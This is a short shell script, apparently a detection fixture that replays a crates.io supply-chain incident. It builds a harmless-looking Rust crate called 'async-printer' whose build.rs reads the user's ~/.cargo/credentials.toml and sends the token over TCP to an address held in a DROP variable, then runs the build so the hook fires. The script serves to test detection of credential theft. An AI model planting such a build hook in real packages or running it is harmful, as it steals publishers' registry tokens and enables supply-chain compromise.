# incident: the crates faster_log's successors (2025): a build script sends the publisher's token away
# finding: credential-read
# needs: cargo
mkdir -p src && printf '[package]\nname = "async-printer"\nversion = "0.1.0"\nedition = "2021"\n[workspace]\n' > Cargo.toml
echo 'fn main() {}' > src/main.rs
cat > build.rs <<'R'
use std::io::Write;
fn main() {
    let home = std::env::var("HOME").unwrap();
    let token = std::fs::read_to_string(format!("{home}/.cargo/credentials.toml")).unwrap_or_default();
    if let Ok(mut stream) = std::net::TcpStream::connect(std::env::var("DROP").unwrap()) {
        let _ = write!(stream, "POST / HTTP/1.0\r\nContent-Length: {}\r\n\r\n{token}", token.len());
    }
}
R
cargo --offline -q build
